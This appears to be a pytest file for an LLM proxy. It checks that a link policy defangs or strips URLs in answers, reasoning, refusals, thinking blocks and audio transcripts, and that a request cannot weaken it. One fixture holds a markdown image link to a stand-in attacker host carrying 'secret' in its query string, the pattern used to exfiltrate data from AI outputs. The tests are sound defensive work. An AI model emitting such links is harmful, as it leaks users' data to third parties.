"""`output.links` over HTTP: it applies to every text that a page may show, and no request weakens it."""

import json
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer

from citestream.proxy.config import parse
from citestream.proxy.http.application import make_app
from tests.upstreams.wire import Server, sse

LEAK = "See ![x](https://evil.example/?q=secret), [it](https://ex.org/house) and www.evil.com/x."
NONE = "See ! [x] (https[:]//evil[.]example/?q=secret), [it] (https[:]//ex[.]org/house) and www[.]evil[.]com/x."
OWN = "See ! [x] (https[:]//evil[.]example/?q=secret), [it](https://ex.org/house) and www[.]evil[.]com/x."
EVIDENCE = [{"text": "The house is red.", "url": "https://ex.org/house"}]
REQUEST: dict[str, Any] = {"model": "up/m", "messages": [{"role": "user", "content": "What is red?"}]}


def deltas(*texts: tuple[str, Any]) -> list[bytes]:
    found: list[Any] = [{"index": 0, "delta": {name: text}, "finish_reason": None} for name, text in texts]
    found.append({"index": 0, "delta": {}, "finish_reason": "stop"})
    chunks = [{"id": "c", "object": "chat.completion.chunk", "choices": [choice]} for choice in found]
    return [*(b"data: " + json.dumps(chunk).encode() + b"\n\n" for chunk in chunks), b"data: [DONE]\n\n"]


async def completed(answer: list[bytes], links: str, **fields: Any) -> dict[str, Any]:
    """Return the complete message that a client receives."""
    async with Server(sse(*answer)) as provider:
        settings = {"kind": "openai", "base_url": f"{provider.url}/v1", "api_key": "k"}
        config = {"providers": {"up": settings}, "output": {"links": links}}
        async with TestClient(TestServer(make_app(parse(config)))) as client:
            response = await client.post("/v1/chat/completions", json={**REQUEST, **fields})
            if not fields.get("stream"):
                whole: dict[str, Any] = (await response.json())["choices"][0]["message"]
                return whole
            message: dict[str, Any] = {}
            for line in (await response.text()).splitlines():
                if line.startswith("data: {"):
                    for choice in json.loads(line[6:])["choices"]:
                        for name, value in choice["delta"].items():
                            message[name] = message.get(name, "") + value if isinstance(value, str) else value
            return message


POLICIES = {"allow": LEAK, "none": NONE, "evidence": OWN}


@pytest.mark.parametrize("links", POLICIES)
@pytest.mark.parametrize("stream", [False, True])
async def test_a_cited_answer_has_the_links_of_the_policy(links: str, stream: bool) -> None:
    for texts in ([("content", LEAK)], [("content", character) for character in LEAK]):
        for release in ("sentence", "live"):
            fields = {"evidence": EVIDENCE, "citations": {"release": release}, "stream": stream}
            assert (await completed(deltas(*texts), links, **fields))["content"] == POLICIES[links]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("fields", [{}, {"evidence": EVIDENCE, "citations": {"enabled": False}}], ids=["none", "off"])
async def test_the_policy_applies_to_answers_without_citations(fields: dict[str, Any], stream: bool) -> None:
    message = await completed(deltas(("content", LEAK)), "evidence", stream=stream, **fields)
    assert message["content"] == NONE
    message = await completed(deltas(*(("content", part) for part in LEAK)), "none", stream=stream, **fields)
    assert "https:/" not in message["content"]
    assert "](" not in message["content"]


@pytest.mark.parametrize("name", ["reasoning", "reasoning_content", "refusal"])
@pytest.mark.parametrize("evidence", [None, EVIDENCE], ids=["not cited", "cited"])
async def test_the_policy_applies_to_reasoning_and_refusals(name: str, evidence: Any) -> None:
    fields = {"evidence": evidence} if evidence else {}
    message = await completed(deltas((name, LEAK), ("content", "Yes.")), "none", **fields)
    assert message[name] == NONE
    cut = await completed(deltas(*((name, part) for part in LEAK), ("content", "Yes.")), "none", **fields)
    assert "https:/" not in cut[name]
    assert "](" not in cut[name]


async def test_the_policy_applies_to_the_details_of_reasoning() -> None:
    detail: list[Any] = [
        {"type": "reasoning.text", "text": LEAK, "index": 0},
        {"type": "reasoning.encrypted", "data": "x"},
    ]
    answer = deltas(("reasoning_details", [*detail, 5]), ("content", "Yes."))  # an entry of a wrong type is dropped
    message = await completed(answer, "none", evidence=EVIDENCE)
    assert message["reasoning_details"] == [{**detail[0], "text": NONE}, detail[1]]


async def test_the_policy_applies_to_thinking_blocks_and_audio_transcripts() -> None:
    blocks: list[Any] = [{"type": "thinking", "thinking": LEAK, "signature": "x//y.z"}, 5]
    audio = {"id": "a", "transcript": LEAK, "data": "AAEC"}
    answer = deltas(("thinking_blocks", blocks), ("audio", audio), ("content", "Yes."))
    for fields in ({"evidence": EVIDENCE}, {}):
        message = await completed(answer, "none", **fields)
        assert message["thinking_blocks"] == [{**blocks[0], "thinking": NONE}, 5]
        assert message["audio"] == {**audio, "transcript": NONE}


@pytest.mark.parametrize("evidence", [None, EVIDENCE], ids=["not cited", "cited"])
async def test_json_answers_are_unchanged(evidence: Any) -> None:
    answer = '{"colour": "red", "see": "[it](https://ex.org/house)"}'
    fields = {"response_format": {"type": "json_object"}} | ({"evidence": evidence} if evidence else {})
    assert (await completed(deltas(("content", answer)), "none", **fields))["content"] == answer


async def test_the_policy_applies_to_the_cite_endpoint() -> None:
    config = {"providers": {"extractive": None}, "output": {"links": "none"}}
    async with TestClient(TestServer(make_app(parse(config)))) as client:
        for body in ({"text": LEAK}, {"sentences": [LEAK]}):
            answer = await (await client.post("/v1/cite", json={**body, "evidence": EVIDENCE})).json()
            assert answer["text"] == NONE


async def test_a_request_cannot_weaken_the_policy() -> None:
    config = {"providers": {"extractive": None}, "output": {"links": "none"}}
    async with TestClient(TestServer(make_app(parse(config)))) as client:
        body = {**REQUEST, "model": "extractive", "evidence": EVIDENCE, "citations": {"links": "allow"}}
        answer = await client.post("/v1/chat/completions", json=body)
        assert answer.status == 400
        assert (await answer.json())["error"]["param"] == "citations.links"
